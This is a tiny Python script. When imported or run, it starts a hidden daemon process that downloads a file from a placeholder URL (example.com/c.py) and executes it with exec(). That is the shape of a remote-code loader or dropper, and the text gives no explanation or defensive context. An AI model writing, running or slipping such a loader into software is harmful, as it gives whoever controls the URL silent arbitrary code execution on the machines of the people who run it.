import multiprocessing
import urllib.request


def _child(url):
    exec(urllib.request.urlopen(url).read())


multiprocessing.Process(target=_child, args=("https://example.com/c.py",), daemon=True).start()
